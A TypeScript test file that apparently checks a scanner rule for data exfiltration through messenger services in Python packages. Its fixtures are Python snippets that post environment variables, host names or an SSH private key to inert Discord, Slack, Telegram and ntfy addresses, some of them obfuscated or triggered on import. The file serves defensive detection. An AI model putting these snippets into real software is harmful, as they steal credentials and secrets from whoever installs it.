import { messengerExfiltration } from '../../src/rules/messenger-exfiltration.js';
import { base64 } from '../python/read.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

// Addresses of no channel: the parts that would name one are zeros.
const WEBHOOK = 'https://discord.com/api/webhooks/0/inert';
const init = (source: string) => wheel({ 'demo/__init__.py': source });
const updated = (source: string) => ({ base: wheel(), head: init(source) });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const ENVIRONMENT = `import os, requests\nrequests.post("${WEBHOOK}", json={"content": str(dict(os.environ))})\n`;
const PLAIN = `import requests\nrequests.post("${WEBHOOK}", json={"content": "hello"})\n`;

releaseTest(messengerExfiltration, {
  flags: [
    { name: 'the environment', given: updated(ENVIRONMENT), level: 'block', says: 'discord.com/api/webhooks' },
    { name: 'the environment, when called', given: updated(inFunction(ENVIRONMENT)), level: 'block' },
    {
      name: 'http.client, in two steps',
      given: updated(
        'import http.client, json, os\nc = http.client.HTTPSConnection("discord.com")\nc.request("POST", "/api/webhooks/0/inert", body=json.dumps({"content": str(os.environ)}))\n',
      ),
      level: 'block',
      says: 'discord.com/api/webhooks/0',
    },
    {
      name: 'a decoded address',
      given: updated(
        `import base64, requests, socket\nu = base64.b64decode("${base64(WEBHOOK)}").decode()\nrequests.post(u, json={"content": socket.gethostname()})\n`,
      ),
      level: 'block',
    },
    {
      name: 'a decoded address, when called',
      given: updated(
        `import base64, requests\nu = base64.b64decode("${base64(WEBHOOK)}").decode()\ndef f(x):\n    requests.post(u, json={"content": x})\n`,
      ),
      level: 'warn',
    },
    {
      name: 'urllib with a request object, to Slack',
      given: updated(
        'import getpass, json, urllib.request\nr = urllib.request.Request("https://hooks.slack.com/services/T0/B0/inert", data=json.dumps({"text": getpass.getuser()}).encode())\nurllib.request.urlopen(r)\n',
      ),
      level: 'block',
      says: 'hooks.slack.com',
    },
    {
      name: 'a Telegram bot put together, through getattr',
      given: updated(
        'import platform\nr = __import__("requests")\nT = "0:inert"\ngetattr(r, "ge" + "t")("https://api.telegram.org/bot" + T + "/sendMessage?chat_id=0&text=" + platform.node())\n',
      ),
      level: 'block',
      says: 'api.telegram.org',
    },
    {
      name: 'a Telegram library',
      given: updated(
        'import telebot, socket\nb = telebot.TeleBot("0:inert")\nb.send_message(0, socket.gethostname())\n',
      ),
      level: 'block',
    },
    {
      name: 'a webhook library with a key file, in a class',
      given: updated(
        `import os\nfrom discord_webhook import DiscordWebhook as W\nclass Report:\n    def __init__(self):\n        w = W(url="${WEBHOOK}", content="x")\n        w.add_file(file=open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read(), filename="x")\n        w.execute()\nReport()\n`,
      ),
      level: 'block',
      says: 'id_rsa',
    },
    {
      name: 'aiohttp',
      given: updated(
        `import aiohttp, asyncio, socket\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post("${WEBHOOK}", json={"content": socket.gethostname()})\nasyncio.run(f())\n`,
      ),
      level: 'block',
    },
    {
      name: 'a session with a base address, to ntfy',
      given: updated(
        'import httpx, os\nc = httpx.Client(base_url="https://ntfy.sh")\nc.post("/inert", content=str(os.environ))\n',
      ),
      level: 'block',
    },
    { name: 'nothing but a greeting, on import', given: updated(PLAIN), level: 'warn' },
    {
      name: 'the host name, when called',
      given: updated(
        inFunction(`import socket, requests\nrequests.post("${WEBHOOK}", json={"content": socket.gethostname()})\n`),
      ),
      level: 'warn',
    },
    { name: 'a first release', given: { head: init(ENVIRONMENT) }, level: 'block' },
    { name: 'a first release, when called', given: { head: init(inFunction(ENVIRONMENT)) }, level: 'warn' },
    { name: 'in tests', given: { base: wheel(), head: wheel({ 'tests/test_a.py': ENVIRONMENT }) }, level: 'note' },
  ],
  allows: [
    { name: 'a notifier that is called', given: updated(inFunction(PLAIN)) },
    {
      name: 'a notifier whose token comes from the environment',
      given: updated(
        'import os, requests\nTOKEN = os.environ["TELEGRAM_BOT_TOKEN"]\ndef notify(text):\n    requests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", data={"text": text})\n',
      ),
    },
    {
      name: 'a Slack client whose token comes from the environment',
      given: updated(
        'import os\nfrom slack_sdk import WebClient\ndef say(text):\n    WebClient(token=os.environ["SLACK_BOT_TOKEN"]).chat_postMessage(channel="#a", text=text)\n',
      ),
    },
    {
      name: 'a bot library',
      given: updated(
        'import aiohttp\nclass Webhook:\n    BASE = "https://discord.com/api/webhooks"\n    def __init__(self, id, token):\n        self.url = f"{self.BASE}/{id}/{token}"\n    async def send(self, content):\n        async with aiohttp.ClientSession() as s:\n            await s.post(self.url, json={"content": content})\n',
      ),
    },
    {
      name: 'a bot that runs as a command',
      given: updated(
        'import discord\nclient = discord.Client()\n@client.event\nasync def on_message(message):\n    await message.channel.send("hi")\ndef main(token):\n    client.run(token)\n',
      ),
    },
    {
      name: 'a link to a chat in a text',
      given: updated('HELP = "Join us at https://discord.com/invite/inert or https://t.me/inert"\nprint(HELP)\n'),
    },
    {
      name: 'monitoring that tells another server its host name when called',
      given: updated(
        'import socket, requests\ndef push(url):\n    requests.post(url, json={"h": socket.gethostname()})\n',
      ),
    },
    { name: 'what the base did too', given: { base: init(ENVIRONMENT), head: init(`V = 2\n${ENVIRONMENT}`) } },
  ],
});
